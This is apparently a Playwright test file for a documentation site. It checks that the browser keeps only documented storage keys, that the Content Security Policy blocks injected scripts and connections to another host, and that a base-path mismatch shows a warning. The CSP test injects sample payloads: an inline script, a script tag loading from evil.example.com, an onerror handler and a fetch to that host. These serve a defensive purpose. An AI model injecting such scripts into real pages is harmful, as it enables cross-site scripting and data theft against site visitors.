// What the site promises about security and privacy, as a browser sees it. Deployments: tests/hosts.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser, Page } from '@playwright/test';
import { startServer } from '../../scripts/serve/server';
import {
  arrived,
  buildDir,
  colorModeButton,
  expect,
  heading,
  open,
  openSwitcher,
  sidebar,
  siteDir,
  test,
} from './site';

const guide = '/docs/Android/docScan';

/** Opens a page of another server than that of the tests, whose errors are expected. */
async function visit(
  browser: Browser,
  options: Parameters<typeof startServer>[0],
  use: (page: Page, url: string) => Promise<void>,
): Promise<void> {
  const site = await startServer(options);
  const page = await browser.newPage({ baseURL: site.url });
  try {
    await use(page, site.url);
  } finally {
    await page.close();
    await site.close();
  }
}

/** Notes everything that the policy refuses, across navigations. */
async function violationsOf(page: Page): Promise<string[]> {
  const violations: string[] = [];
  await page.exposeFunction('noteViolation', (text: string) => void violations.push(text));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const { noteViolation } = window as unknown as { noteViolation: (text: string) => void };
      noteViolation(`${event.effectiveDirective}: ${event.blockedURI} ${event.sample}`);
    });
  });
  return violations;
}

/** Keys that operations/README.md names. */
const documentedKeys = [
  ...readFileSync(join(siteDir, 'operations/README.md'), 'utf8')
    .replace(/^[\s\S]*\n## What the browser keeps\n/, '')
    .replace(/\n## [\s\S]*$/, '')
    .matchAll(/^\| `([^`<]+)/gm),
].map(([, key = '']) => key);

test('nothing but what is documented is kept: no cookies, no workers', async ({
  page,
  context,
}) => {
  // That nothing leaves the site is what every test checks: see watchPages in site.ts.
  await open(page, guide);
  await page.getByRole('tab', { name: 'Java' }).first().click();
  await page.locator('button[data-copy]').filter({ visible: true }).first().click();
  await colorModeButton(page).click();
  await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
  const switcher = await openSwitcher(sidebar(page));
  await switcher.locator('a[href="/docs/react-native/docScan"]').click();
  await arrived(page, '/docs/react-native/docScan');

  await open(page, '/docs/Android/colorConfig');
  const color = page.getByRole('textbox', { name: 'colorPrimary, light, hex value' });
  await color.fill('#102030');
  await color.press('Enter');
  await expect(page).toHaveURL(/colors=/);

  await open(page, '/');
  await page.locator('main a[href="/docs/Android/intro"]').first().click();
  await arrived(page, '/docs/Android/intro');

  const kept = await page.evaluate(async () => ({
    keys: [...Object.keys(localStorage), ...Object.keys(sessionStorage)],
    workers: (await navigator.serviceWorker.getRegistrations()).length,
    caches: await caches.keys(),
    databases: (await indexedDB.databases()).map(({ name }) => name),
    cookie: document.cookie,
  }));
  const isDocumented = (key: string): boolean =>
    documentedKeys.some((known) => key.startsWith(known));
  expect(kept.keys.filter((key) => !isDocumented(key))).toEqual([]);
  expect(kept.keys.map((key) => key.replace(/-[\da-f]{3}$/, ''))).toEqual(
    expect.arrayContaining(['theme', 'deckle.platform']),
  );
  expect(kept).toMatchObject({ workers: 0, caches: [], databases: [], cookie: '' });
  expect(await context.cookies()).toEqual([]);
});

for (const [by, plainHost] of [
  ['the header', false],
  ['the policy of the page alone', true],
] as const) {
  test(`an injected script does not run and data cannot be sent elsewhere, by ${by}`, async ({
    browser,
  }) => {
    const inject = (html: string): string =>
      html
        .replace(
          '</head>',
          `<script>window.injected = 'script';</script>
           <script src="https://evil.example.com/a.js"></script>
           <style>body { display: none }</style></head>`,
        )
        .replace('</article>', '<img src="x" onerror="window.injected = 1"></article>');
    // The host without headers adds a slash.
    const rules = [{ path: new RegExp(`^${guide}/?$`), edit: inject }];
    await visit(browser, { root: buildDir, plainHost, rules }, async (page) => {
      const violations = await violationsOf(page);
      await page.goto(guide);
      await expect(heading(page)).toBeVisible();
      await expect(page.evaluate(() => fetch('https://evil.example.com/'))).rejects.toThrow();
      for (const refused of [
        /script-src-attr: inline/,
        /script-src-elem: inline/,
        /script-src-elem: https:\/\/evil\.example\.com/,
        /style-src-elem: inline/,
        /connect-src: https:\/\/evil\.example\.com/,
      ]) {
        await expect.poll(() => violations.join('\n')).toMatch(refused);
      }
      expect(await page.evaluate(() => 'injected' in window)).toBe(false);
    });
  });
}

test('the home page of a build for / that is served below /sub/ says so', async ({ browser }) => {
  await visit(browser, { root: buildDir, base: '/sub' }, async (page, url) => {
    const message = page.getByText('Your Docusaurus site did not load properly.');
    await page.goto(`${url}/`);
    await expect(message).toBeVisible();
    await expect(page.getByText('We suggest trying baseUrl = /sub/')).toBeVisible();
    // Elsewhere there is no message: the page is readable as it is.
    await page.goto(url + guide);
    await expect(heading(page)).toBeVisible();
    await expect(message).toHaveCount(0);
  });
});
